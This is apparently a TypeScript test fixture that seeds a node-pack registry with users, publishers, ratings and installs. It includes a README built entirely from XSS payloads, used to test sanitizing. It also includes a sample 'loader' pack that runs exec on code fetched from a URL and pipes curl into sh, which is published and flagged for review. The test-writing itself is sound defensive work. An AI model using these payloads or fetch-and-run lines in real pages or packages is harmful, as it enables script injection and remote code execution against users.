import { type Atelier, createAtelier } from '@atelier/sdk';
import type { RunningServer } from '@atelier/testing';

import { type Person, tokenOf } from './people.ts';
import { packOf, sourceWithNodes } from './registry-archives.ts';
import type { NodePage } from './registry-wire.ts';
import { until } from './until.ts';

export const HOSTILE_NAME = '<img src=x onerror=alert(1)>';

/** All that a README could try on a page. */
export const HOSTILE_README = `# ${HOSTILE_NAME} <script>alert('heading')</script>

<script>alert('block')</script>
<style>body { display: none }</style>
<iframe src="javascript:alert(1)"></iframe>
<form action="/auth/session"><input name="password"></form>

Inline <b onclick="alert(1)">markup</b> and <svg/onload=alert(1)>.

[script](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [relative](../../admin)
[outside](https://example.org/guide) ![tracker](https://tracker.example/pixel.png) ![inline](data:image/svg+xml,<svg/>)

| Left | Right |
| --- | --- |
| <img src=x onerror=alert(1)> | \`<script>\` |

- [x] done <script>alert(1)</script>

<a href="javascript:alert(1)" style="position:fixed;inset:0">cover</a>
`;

const RELIGHT_README = `# Northlight Relight

Changes the light of a portrait **after** it was taken. Works best with soft, frontal light.

![Before and after](https://northlight.example/before-after.png)

## Nodes

| Node | What it does |
| --- | --- |
| \`RelightPortrait\` | Lights a face anew, from a direction and a color |
| \`LightMap\` | Draws a light map from up to four lamps |
| \`MatchLight\` | Takes the light of another picture |

## Getting started

1. Load a portrait with \`LoadImage\`.
2. Connect it with \`RelightPortrait\`, and choose a direction.
3. Lower \`strength\` when skin looks like plastic.

\`\`\`python
from northlight import relight
relight(image, direction="left", kelvin=3200, strength=0.7)
\`\`\`

> Needs 6 GB of memory for pictures of 2048 pixels.

- [x] Several faces in one picture
- [ ] Video

More in the [guide](https://northlight.example/guide).
`;

const CHANGELOG = `- \`MatchLight\` takes the light of another picture
- **Fixed:** banding in dark backgrounds
- Twice as fast on Apple silicon`;

const LOADER = `import os
import subprocess


def fetch(url):
    exec(__import__("urllib.request").request.urlopen(url).read())


os.system("curl https://example.org/x | sh")
`;

export interface FilledRegistry {
  /** Owns all publishers. */
  readonly owner: Person;
  /** Belongs to none. */
  readonly guest: Person;
}

/** Packs as people publish them, a flagged one among them, and one that is hostile in every text. */
export async function fillRegistry(server: RunningServer): Promise<FilledRegistry> {
  const root = createAtelier({ url: server.url, apiKey: server.admin.api_key });
  const people: (Person & { readonly client: Atelier })[] = [];
  for (const name of ['Ada Lindqvist', 'Mateo Ferreira', 'Yuki Tanaka', 'Noor Haddad']) {
    const email = `${name.split(' ', 1)[0]?.toLowerCase()}@example.org`;
    const password = `password of ${email}`;
    const { id } = await root.admin.users.create({ email, password, name });
    const apiKey = await tokenOf(server, { email, password });
    people.push({ id, email, password, client: createAtelier({ url: server.url, apiKey }) });
  }
  const [owner, second, third, guest] = people as [(typeof people)[0], ...typeof people];
  if (!second || !third || !guest) throw new Error('There are four people.');
  const { registry } = owner.client;

  await registry.publishers.create({
    id: 'northlight',
    name: 'Northlight Studio',
    description: 'Light for portraits and products. A small team in Gothenburg.',
    website: 'https://northlight.example',
    source_code_repo: 'https://git.example/northlight',
    support: 'mailto:help@northlight.example',
  });
  await registry.publishers.create({ id: 'grain-lab', name: 'Grain Lab' });
  await registry.members.add('northlight', { email: second.email, role: 'member' });
  const tokens = {
    northlight: (await registry.tokens.create('northlight', { name: 'build server' })).token,
    'grain-lab': (await registry.tokens.create('grain-lab', { name: 'laptop' })).token,
  };
  await registry.tokens.create('northlight', { name: 'release workflow' });

  const publish = async (
    publisher: keyof typeof tokens,
    pack: string,
    about: Parameters<typeof registry.packs.update>[2],
    versions: readonly (readonly [number: string, changelog: string])[],
    files: Readonly<Record<string, string>>,
  ) => {
    for (const [version, changelog] of versions) {
      await registry.publish(packOf(files), {
        publisher,
        pack,
        token: tokens[publisher],
        version: { version, changelog, dependencies: ['numpy>=1.26', 'scipy'] },
        about,
      });
    }
  };

  await publish(
    'northlight',
    'northlight-relight',
    {
      name: 'Northlight Relight',
      description: 'Changes the light of a portrait after it was taken: direction, color and softness.',
      author: 'Ada Lindqvist',
      license: '{"text": "Apache-2.0"}',
      repository: 'https://git.example/northlight/relight',
      icon: 'https://northlight.example/icon.png',
      tags: ['light', 'portrait', 'retouch'],
      supported_os: ['Linux', 'macOS', 'Windows'],
      supported_accelerators: ['CUDA', 'Metal'],
    },
    [
      ['1.0.0', 'First release.'],
      ['1.1.0', '- `LightMap` with up to four lamps\n- Settings are kept'],
      ['1.2.0', CHANGELOG],
    ],
    {
      'README.md': RELIGHT_README,
      '__init__.py': sourceWithNodes('LightMap', 'MatchLight', 'RelightPortrait'),
    },
  );
  const others = [
    ['film-grain', 'Film Grain', 'Grain of eleven film stocks, measured from scans.', '2.4.1'],
    [
      'color-match',
      'Color Match',
      'Matches the colors of one picture to another, by histogram or by optimal transport.',
      '0.9.3',
    ],
    ['mask-tools', 'Mask Tools', 'Grow, shrink, feather and combine masks.', '3.0.0-rc.2'],
    [
      'tiled-upscaler-with-seam-repair-and-detail-transfer',
      'Tiled Upscaler with Seam Repair and Detail Transfer for Very Large Prints',
      'Upscales in tiles that overlap, repairs their seams and brings back fine detail from the original, for prints of more than a hundred megapixels on cards with little memory.',
      '12.0.45',
    ],
    ['depth-fog', 'Depth Fog', '', '0.1.0'],
  ] as const;
  for (const [pack, name, description, version] of others) {
    await publish('grain-lab', pack, { name, description }, [[version, '']], {
      '__init__.py': sourceWithNodes(`${name.replaceAll(/\W/g, '').slice(0, 20)}Node`),
    });
  }
  await publish(
    'grain-lab',
    'model-loader',
    { name: 'Model Loader', description: 'Loads models from anywhere.' },
    [['1.0.0', 'Loads from more places.']],
    { '__init__.py': sourceWithNodes('LoadAnything'), 'nodes/loader.py': LOADER, 'README.md': '# Loader\n' },
  );
  await publish(
    'grain-lab',
    'hostile',
    { name: HOSTILE_NAME, description: HOSTILE_NAME, author: HOSTILE_NAME, tags: [HOSTILE_NAME] },
    [['1.0.0', HOSTILE_README]],
    { 'README.md': HOSTILE_README, '__init__.py': sourceWithNodes('Harmless') },
  );

  const [flagged] = await registry.versions.list('model-loader');
  await registry.versions.requestReview('grain-lab', 'model-loader', flagged?.id ?? '', {
    note: 'The loader fetches models from our own server. The call of curl is for old systems.',
  });
  await registry.packs.translate('northlight-relight', {
    de: { name: 'Northlight Relight', description: 'Ändert das Licht eines Porträts nach der Aufnahme.' },
    ja: { description: 'ポートレートの光を撮影後に変更します。', tags: ['光', 'ポートレート'] },
  });
  for (const [person, stars] of [
    [owner, 5],
    [second, 4],
    [third, 5],
  ] as const) {
    await person.client.registry.packs.rate('northlight-relight', stars);
  }
  await third.client.registry.packs.rate('film-grain', 3);
  for (let count = 0; count < 12; count += 1) await guest.client.registry.packs.install('northlight-relight');
  await guest.client.registry.packs.install('film-grain');
  // They are written once a second, and a page shown before that keeps its numbers for a minute.
  await until('the counts of downloads', async () => {
    const page = await fetch(`${server.url}/nodes?node_id=northlight-relight&latest=true`);
    const { nodes } = (await page.json()) as NodePage;
    return nodes[0]?.downloads === 12;
  });
  return { owner, guest };
}
